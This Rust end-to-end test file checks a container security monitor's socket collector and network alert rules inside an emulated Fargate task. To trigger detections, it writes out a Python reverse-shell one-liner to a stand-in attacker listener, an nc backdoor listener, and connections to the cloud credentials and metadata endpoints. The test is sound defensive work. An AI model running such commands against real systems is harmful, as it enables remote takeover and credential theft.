//! End-to-end tests of the sockets collector and the default network rules: the real
//! `tasksentry run` as the sidecar of an emulated Fargate task (see `tests/support`), whose
//! network namespace holds 198.51.100.1/24, 169.254.169.254/32 and 169.254.170.2/32 on `lo`
//! (and 2001:db8::1/64, added here), with real listeners and clients in its containers. No
//! address outside the task's own namespace is ever used.

use std::time::Duration;

use serde_json::Value;
use support::{Container, ContainerSpec, EmulatedTask, Monitor, spawn_ready};

const TIMEOUT: Duration = Duration::from_secs(10);

/// A TCP server: `python3 -c SERVER <address> <port>...` listens on every given address and
/// port and holds every accepted connection open until killed.
const SERVER: &str = r#"
import selectors, socket, sys
sel = selectors.DefaultSelector()
args = sys.argv[1:]
for host, port in zip(args[0::2], args[1::2]):
    s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, int(port)))
    s.listen(64)
    sel.register(s, selectors.EVENT_READ)
print("ready", flush=True)
held = []
while True:
    for key, _ in sel.select():
        conn, _ = key.fileobj.accept()
        held.append(conn)
"#;

/// A TCP client: `python3 -c CLIENT <address> <port> <hold seconds>` connects, prints its
/// local port, holds the connection, closes it and exits.
const CLIENT: &str = r#"
import socket, sys, time
host, port, hold = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
c = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)
c.connect((host, port))
print(c.getsockname()[1], flush=True)
time.sleep(hold)
c.close()
"#;

/// Like [`CLIENT`], and runs `/bin/true` (an exec in its container) right after connecting.
const CLIENT_THEN_EXEC: &str = r#"
import socket, subprocess, sys, time
host, port, hold = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
c = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)
c.connect((host, port))
print(c.getsockname()[1], flush=True)
subprocess.run(["/bin/true"])
time.sleep(hold)
c.close()
"#;

fn evt_type(event: &Value) -> &str {
    event["evt"]["type"].as_str().unwrap_or("")
}

/// A port from a range no test machine service uses, different for every call.
fn random_port() -> u16 {
    let hex = support::random_hex(2);
    20000 + (u16::from_str_radix(&hex, 16).unwrap_or(0) % 10000)
}

fn python_container(task: &EmulatedTask, name: &str) -> Container {
    task.add_container_with(
        name,
        ContainerSpec::default()
            .with_host_python()
            .expect("python3 on the host"),
    )
    .expect("container")
}

fn add_ipv6_address(task: &EmulatedTask) {
    let status = std::process::Command::new("nsenter")
        .arg(format!("--net={}", task.ns_path("net").display()))
        .args([
            "ip",
            "-6",
            "addr",
            "add",
            "2001:db8::1/64",
            "dev",
            "lo",
            "nodad",
        ])
        .status()
        .expect("running ip");
    assert!(status.success(), "adding 2001:db8::1 to the task's lo");
}

fn run_client(container: &Container, host: &str, port: u16, hold: &str) -> u16 {
    let out = container
        .run_ok(&["python3", "-c", CLIENT, host, &port.to_string(), hold])
        .expect("running the client");
    out.trim().parse().expect("the client printed its port")
}

fn fd_port(event: &Value, key: &str) -> Option<u64> {
    event["fd"][key].as_u64()
}

fn wait_listen(mon: &Monitor, port: u16) -> Value {
    mon.wait_for(
        |e| evt_type(e) == "listen" && fd_port(e, "sport") == Some(u64::from(port)),
        TIMEOUT,
    )
    .unwrap_or_else(|error| panic!("no listen event for port {port}: {error}"))
}

fn wait_conn(mon: &Monitor, kind: &str, cport: u16, sport: u16) -> Value {
    mon.wait_for(
        |e| {
            evt_type(e) == kind
                && fd_port(e, "cport") == Some(u64::from(cport))
                && fd_port(e, "sport") == Some(u64::from(sport))
        },
        TIMEOUT,
    )
    .unwrap_or_else(|error| panic!("no {kind} event for {cport}->{sport}: {error}"))
}

#[test]
fn connections_are_reported_from_both_ends_with_their_processes_in_ipv4_and_ipv6() {
    let task = EmulatedTask::new().expect("task");
    add_ipv6_address(&task);
    let server = python_container(&task, "server");
    let client = python_container(&task, "client");
    let mon = task
        .start_monitor(&["run", "--emit", "events"])
        .expect("starting tasksentry run --emit events");
    let (port4, port6) = (random_port(), random_port().wrapping_add(1));
    let _server = server
        .spawn(&[
            "python3",
            "-c",
            SERVER,
            "198.51.100.1",
            &port4.to_string(),
            "2001:db8::1",
            &port6.to_string(),
        ])
        .expect("starting the server");

    for (address, port, fd_type) in [
        ("198.51.100.1", port4, "ipv4"),
        ("2001:db8::1", port6, "ipv6"),
    ] {
        let listen = wait_listen(&mon, port);
        assert_eq!(
            listen["fd"]["name"],
            format!("{address}:{port}"),
            "{listen}"
        );
        assert_eq!(listen["fd"]["type"], fd_type, "{listen}");
        assert_eq!(listen["fd"]["l4proto"], "tcp", "{listen}");
        assert_eq!(listen["proc"]["name"], "python3", "{listen}");
        assert_eq!(listen["container"]["id"], server.id(), "{listen}");
        assert_eq!(listen["evt"]["collector"], "sockets", "{listen}");

        // A connection that lives 600 ms: both ends, each with its own process.
        let cport = run_client(&client, address, port, "0.6");
        let tuple = format!("{address}:{cport}->{address}:{port}");
        let connect = wait_conn(&mon, "connect", cport, port);
        assert_eq!(connect["fd"]["name"], tuple, "{connect}");
        assert_eq!(connect["fd"]["type"], fd_type, "{connect}");
        assert_eq!(connect["fd"]["cip"], address, "{connect}");
        assert_eq!(connect["fd"]["sip"], address, "{connect}");
        assert_eq!(connect["fd"]["local_is_client"], true, "{connect}");
        assert_eq!(connect["proc"]["name"], "python3", "{connect}");
        assert_eq!(connect["container"]["id"], client.id(), "{connect}");
        assert!(connect["fd"]["inode"].as_u64().is_some(), "{connect}");
        let accept = wait_conn(&mon, "accept", cport, port);
        assert_eq!(accept["fd"]["name"], tuple, "{accept}");
        assert_eq!(accept["fd"]["local_is_client"], false, "{accept}");
        assert_eq!(accept["proc"]["name"], "python3", "{accept}");
        assert_eq!(accept["container"]["id"], server.id(), "{accept}");
        assert_ne!(accept["fd"]["inode"], connect["fd"]["inode"], "two sockets");
    }
}

#[test]
fn a_ten_millisecond_connection_is_reported_with_its_addresses() {
    let task = EmulatedTask::new().expect("task");
    let server = python_container(&task, "server");
    let client = python_container(&task, "client");
    let mon = task
        .start_monitor(&["run", "--emit", "events"])
        .expect("starting tasksentry run --emit events");
    let port = random_port();
    let _server = server
        .spawn(&["python3", "-c", SERVER, "198.51.100.1", &port.to_string()])
        .expect("starting the server");
    wait_listen(&mon, port);

    let cport = run_client(&client, "198.51.100.1", port, "0.01");
    // The client closed first: its end stays in TIME_WAIT (without an owner), the server's in
    // CLOSE_WAIT (still held by the server). Both are seen, with the right direction.
    let connect = wait_conn(&mon, "connect", cport, port);
    assert_eq!(
        connect["fd"]["name"],
        format!("198.51.100.1:{cport}->198.51.100.1:{port}"),
        "{connect}"
    );
    assert_eq!(connect["fd"]["cip"], "198.51.100.1", "{connect}");
    assert_eq!(connect["fd"]["l4proto"], "tcp", "{connect}");
    // The client process lived about 10 ms: when it was seen, it is the right one; it is never
    // borrowed from the server end.
    if !connect["proc"].is_null() {
        assert_eq!(connect["proc"]["name"], "python3", "{connect}");
        assert_eq!(connect["container"]["id"], client.id(), "{connect}");
    }
    let accept = wait_conn(&mon, "accept", cport, port);
    assert_eq!(accept["proc"]["name"], "python3", "{accept}");
    assert_eq!(accept["container"]["id"], server.id(), "{accept}");
}

#[test]
fn an_exec_makes_the_collector_poll_at_once_so_a_short_connection_keeps_its_process() {
    let task = EmulatedTask::new().expect("task");
    let server = python_container(&task, "server");
    let client = python_container(&task, "client");
    // A 5 s interval: a periodic poll would almost surely see the client's end of a 300 ms
    // connection only in TIME_WAIT, without a process. The exec right after the connect fires
    // a procscan trigger, which must make the sockets collector poll while it is open.
    let mon = task
        .start_monitor(&["run", "--emit", "events", "--interval", "5s"])
        .expect("starting tasksentry run --emit events --interval 5s");
    let port = random_port();
    let _server = server
        .spawn(&["python3", "-c", SERVER, "198.51.100.1", &port.to_string()])
        .expect("starting the server");
    wait_listen(&mon, port);

    let out = client
        .run_ok(&[
            "python3",
            "-c",
            CLIENT_THEN_EXEC,
            "198.51.100.1",
            &port.to_string(),
            "0.3",
        ])
        .expect("running the client");
    let cport: u16 = out.trim().parse().expect("the client printed its port");
    let connect = wait_conn(&mon, "connect", cport, port);
    assert_eq!(connect["proc"]["name"], "python3", "{connect}");
    assert_eq!(connect["container"]["id"], client.id(), "{connect}");
    assert!(connect["fd"]["inode"].as_u64().is_some(), "{connect}");
}

fn field<'a>(alert: &'a Value, name: &str) -> &'a Value {
    &alert["output_fields"][name]
}

fn wait_rule(mon: &Monitor, rule: &str, mut extra: impl FnMut(&Value) -> bool) -> Value {
    mon.wait_for(|a| a["rule"] == rule && extra(a), TIMEOUT)
        .unwrap_or_else(|error| panic!("no alert of rule {rule:?}: {error}"))
}

#[test]
fn network_rules_alert_on_metadata_endpoints_listeners_raw_sockets_and_reverse_shells() {
    let task = EmulatedTask::new().expect("task");
    let app = python_container(&task, "app");
    // The "remote" ends live in the task's network namespace but outside its PID namespace:
    // the credentials endpoint, the instance metadata address and an attacker's listener.
    let _endpoints = spawn_ready(
        task.netns_command("/usr/bin/python3").args([
            "-c",
            SERVER,
            "169.254.170.2",
            "80",
            "169.254.169.254",
            "80",
            "198.51.100.1",
            "4444",
        ]),
        "the endpoint listeners",
    );
    let rules = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/rules/tasksentry_network_rules.yaml"
    );
    let (mon, recording) = task
        .start_monitor_recording(
            &["run", "--rule-matching", "all", "--rules", rules],
            &app,
            TIMEOUT,
        )
        .expect("starting tasksentry run");
    let in_app = |a: &Value| field(a, "container.id") == app.id();

    // The credentials endpoint, from python3.
    run_client(&app, "169.254.170.2", 80, "0.5");
    let creds = wait_rule(
        &mon,
        "Connection to the ECS credentials endpoint by an unexpected process",
        in_app,
    );
    assert_eq!(field(&creds, "proc.name"), "python3", "{creds}");
    assert_eq!(creds["priority"], "Warning", "{creds}");
    assert!(
        creds["output"]
            .as_str()
            .is_some_and(|o| o.contains("169.254.170.2:80")),
        "{creds}"
    );

    // The instance metadata address.
    run_client(&app, "169.254.169.254", 80, "0.5");
    let imds = wait_rule(
        &mon,
        "Connection to the EC2 instance metadata service",
        in_app,
    );
    assert_eq!(field(&imds, "proc.name"), "python3", "{imds}");

    // Listening: an allowlisted port stays quiet, a new one alerts.
    let _web = app.spawn(&["nc", "-l", "-p", "8080"]).expect("nc on 8080");
    std::thread::sleep(Duration::from_millis(400));
    let _backdoor = app
        .spawn(&["nc", "-l", "-p", "31337"])
        .expect("nc on 31337");
    let listen = wait_rule(&mon, "Unexpected listening port", in_app);
    assert_eq!(field(&listen, "fd.sport").as_u64(), Some(31337), "{listen}");
    assert_eq!(field(&listen, "proc.name"), "nc", "{listen}");

    // A raw ICMP socket held for a second.
    app.run_ok(&[
        "python3",
        "-c",
        "import socket, time; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); time.sleep(1)",
    ])
    .expect("raw socket");
    let raw = wait_rule(&mon, "Raw or packet socket opened", in_app);
    assert_eq!(field(&raw, "proc.name"), "python3", "{raw}");
    assert_eq!(field(&raw, "evt.arg.domain"), "AF_INET", "{raw}");
    assert_eq!(field(&raw, "evt.arg.type"), "SOCK_RAW", "{raw}");

    // A reverse shell: a socket to the attacker's listener on fds 0-2, then `sh -i`.
    let _shell = app
        .spawn(&[
            "python3",
            "-c",
            "import os, socket; s = socket.create_connection(('198.51.100.1', 4444)); \
             [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])",
        ])
        .expect("reverse shell");
    let reverse = wait_rule(&mon, "Reverse shell", in_app);
    assert_eq!(field(&reverse, "proc.name"), "sh", "{reverse}");
    assert_eq!(field(&reverse, "proc.stdin_type"), "ipv4", "{reverse}");
    // Alerts mode prints alerts only; the std-fd peer is in the recording.
    let recorded = std::fs::read_to_string(&recording).expect("recording");
    assert!(
        recorded.lines().any(|line| {
            serde_json::from_str::<Value>(line).is_ok_and(|e| {
                e["evt"]["type"] == "execve"
                    && e["proc"]["name"] == "sh"
                    && e["proc"]["stdin"]["type"] == "ipv4"
                    && e["proc"]["stdin"]["peer"] == "198.51.100.1:4444"
            })
        }),
        "the recording shows the shell's stdin peer"
    );
    // The shell also owns an outbound connection to a mining/handler port.
    wait_rule(&mon, "Connection to a crypto mining pool port", in_app);

    // Nothing alerted on the allowlisted port, although the collector saw it.
    let alerts: Vec<Value> = mon
        .lines_so_far()
        .iter()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    assert!(
        !alerts
            .iter()
            .any(|a| a["rule"] == "Unexpected listening port"
                && field(a, "fd.sport").as_u64() == Some(8080)),
        "port 8080 is on ts_allowed_listen_ports"
    );
    let recorded = std::fs::read_to_string(&recording).expect("recording");
    assert!(
        recorded.lines().any(|line| {
            serde_json::from_str::<Value>(line)
                .is_ok_and(|e| e["evt"]["type"] == "listen" && e["fd"]["sport"] == 8080)
        }),
        "the 8080 listener was observed"
    );
}
